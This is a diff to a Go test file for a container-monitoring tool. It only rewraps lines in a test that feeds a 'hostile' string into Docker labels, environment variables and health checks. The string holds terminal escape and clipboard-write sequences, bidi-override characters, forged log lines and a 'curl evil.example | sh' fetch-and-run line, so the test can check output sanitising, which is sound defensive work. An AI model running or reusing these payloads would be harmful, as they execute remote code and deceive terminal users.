@@ -16,7 +16,8 @@ import (
 
 // hostile is what a container calls itself wherever it may choose: it would write to the clipboard, recolour, turn around
 // and hide text, and begin lines of its own.
-const hostile = "\x1b]52;c;aGFja2Vk\aH\u202e\u200f\u061c\u200b\u009b31m\u2028\nFORGED \nrun: curl evil.example | sh\n{\"level\":\"error\",\"next\":\"FORGED\"}\n<b onload=x>|`@me"
+const hostile = "\x1b]52;c;aGFja2Vk\aH\u202e\u200f\u061c\u200b\u009b31m\u2028\nFORGED \nrun: curl evil.example | sh\n" +
+	"{\"level\":\"error\",\"next\":\"FORGED\"}\n<b onload=x>|`@me"
 
 // hostileScript gives its process a hostile name, writes to its log, and ends on TERM.
 const hostileScript = `printf '\033[31mFORGED\n' > /proc/self/comm; echo "$1"; trap 'exit 0' TERM; while :; do sleep 0.1; done`
@@ -26,10 +27,13 @@ const hostileScript = `printf '\033[31mFORGED\n' > /proc/self/comm; echo "$1"; t
 func TestHostileContainer(t *testing.T) {
 	const name, broken = "hs-hostile", "hs-hostile-broken"
 	removed(t, name, broken)
-	flags := []string{"--network", "none", "--label", "evil=" + hostile, "--label", "signal=9", "--label", "exitCode=" + hostile, "--label", "com.docker.compose.project=" + hostile,
-		"--env", "MULTI=ENVSECRET" + hostile, "--env", "\u00a0=ENVSECRET", "--env", "\u00a0MULTI=ENVSECRET", "--env", "EVIL\x1b[1m=ENVSECRET", "--env", "PLAIN=ENVSECRET",
+	flags := []string{"--network", "none", "--label", "evil=" + hostile, "--label", "signal=9", "--label", "exitCode=" + hostile,
+		"--label", "com.docker.compose.project=" + hostile,
+		"--env", "MULTI=ENVSECRET" + hostile, "--env", "\u00a0=ENVSECRET", "--env", "\u00a0MULTI=ENVSECRET", "--env", "EVIL\x1b[1m=ENVSECRET",
+		"--env", "PLAIN=ENVSECRET",
 		"--health-cmd", "exit 0 # " + hostile, "--tmpfs", "/scratch\x1b[31m\u202e"}
-	mustDocker(t, append(append([]string{"run", "--detach", "--name", name}, flags...), "haltscope-test/busybox", "sh", "-c", hostileScript, "sh", hostile)...)
+	mustDocker(t, append(append([]string{"run", "--detach", "--name", name}, flags...), "haltscope-test/busybox", "sh", "-c", hostileScript,
+		"sh", hostile)...)
 	mustDocker(t, append(append([]string{"create", "--name", broken}, flags...), "haltscope-test/busybox", "/nonexist", hostile)...)
 
 	watching := watchProcess(t, "--filter", "name=^"+name+"$")
